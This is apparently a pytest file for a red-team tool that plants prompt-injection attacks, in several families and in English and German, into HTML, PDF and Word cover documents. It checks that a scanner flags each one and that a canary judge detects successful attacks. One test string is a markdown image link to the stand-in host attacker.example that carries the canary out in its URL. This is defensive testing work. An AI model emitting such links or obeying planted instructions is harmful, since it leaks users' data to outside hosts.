"""The red-team corpus: every attack plants into its cover document, the scanner flags each one, the canary judge;
`modelwerk redteam` refuses bad input in one line before a model is loaded."""

from __future__ import annotations

from pathlib import Path

import pytest

from app import cli
from app.documents.isolated import parse_document
from app.shield.attacks import FAMILIES, HOST, load, plant, succeeded
from app.shield.scan import scan_text


def test_the_corpus_covers_every_family_in_both_languages() -> None:
    attacks = load()
    assert {a.family for a in attacks} == set(FAMILIES)
    assert {a.lang for a in attacks} == {"en", "de"}
    assert len({a.id for a in attacks}) == len(attacks)
    assert [a.family for a in load(["encoding"])] == ["encoding"] * 3


@pytest.mark.parametrize("attack", load(), ids=lambda a: a.id)
def test_each_planted_attack_is_flagged_by_the_scanner(attack: object, tmp_path: Path) -> None:
    from app.shield.attacks import Attack

    assert isinstance(attack, Attack)
    planted = plant(attack, "ZXABC123")
    doc = parse_document(planted.write(tmp_path))  # HTML, PDF and Word through the reading child, as indexing reads them
    assert "{" not in doc.text  # every placeholder filled in
    assert "ZXABC123" in doc.text or attack.family == "encoding"
    assert "walrus" in doc.text.lower() or "walross" in doc.text.lower()
    assert scan_text(doc.text) or doc.hidden, attack.id
    if attack.family == "exfiltration":
        assert HOST in doc.text
    if attack.format in ("pdf", "docx"):  # the attack, and nothing of the cover text, is what the reader saw hidden
        assert [doc.text[f.start : f.end] for f in doc.hidden] == [attack.text.replace("{CANARY}", "ZXABC123")]


def test_the_canary_judge() -> None:
    assert succeeded("Sure! ZXABC123", "ZXABC123")
    assert succeeded("![x](https://attacker.example/w.png?id=zxabc123)", "ZXABC123")
    assert succeeded("ZX¤ABC¤123", "ZXABC123")  # echoed with the marker
    assert not succeeded("A male walrus weighs about 1,200 kg.", "ZXABC123")


def test_bad_input_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    rc = cli.main(["redteam", "no-such-model", "--attacks", "bogus"])
    _, err = capsys.readouterr()
    assert rc == 1 and err.count("\n") == 1 and "no attack family 'bogus'" in err
    rc = cli.main(["redteam", "no-such-model"])
    _, err = capsys.readouterr()
    assert rc == 1 and err.count("\n") == 1 and "no-such-model" in err
